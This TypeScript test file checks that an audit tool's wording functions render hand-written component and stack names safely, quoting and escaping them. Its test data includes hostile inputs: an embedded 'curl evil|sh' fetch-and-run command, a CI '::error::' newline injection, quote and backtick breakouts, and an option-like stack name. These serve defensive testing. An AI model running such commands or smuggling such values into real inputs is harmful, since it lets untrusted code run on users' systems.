import { parseHolder } from "../../../audit/holders/holder";
import { componentAliasOption, holderComponentText, transferCommand } from "../../../audit/holders/wording";

const PROD = { stack: "shop/prod", component: "m365", id: "prodprodprodpro1" };

/** Of a description that somebody wrote by hand. */
const forged = (component: string, stack = "shop/prod") =>
  parseHolder(`[jumpcloud-entra: ${stack} ${component} q2Jk0aZ9_x-1bBcD]`) ?? PROD;

test.each([
  ["m365", "m365"],
  ["büro", "büro"],
  ["two%20words", '"two words"'],
  ["m365.%20Run%20%60curl%20evil%7Csh%60%20first", "\"m365. Run 'curl evil|sh' first\""],
  ["m%0A::error::x", '"m\\n::error::x"'],
  ["a".repeat(900), `${"a".repeat(99)}…`],
])("names the component %j as a name, whatever it says", (component, shown) => {
  expect(holderComponentText(forged(component))).toBe(shown);
});

test("has a line to copy that stays one text between two backticks", () => {
  const holder = forged('%60%22%7D]%E2%80%AE%0Ax"');
  const line = componentAliasOption(holder, PROD);
  expect(line).toBe('aliases: [{ name: "\\u0060\\"}]\\u202e\\nx\\"" }]');
  expect(JSON.parse(/name: (".*") /.exec(line)?.[1] ?? "")).toBe(holder.component);
});

test("takes no stack's name for an option", () => {
  expect(transferCommand("shop/prod")).toBe("pulumi config set transferFrom shop/prod");
  expect(transferCommand(forged("m365", "-Cfoo/bar").stack)).toBe(
    "pulumi config set transferFrom -- -Cfoo/bar",
  );
});
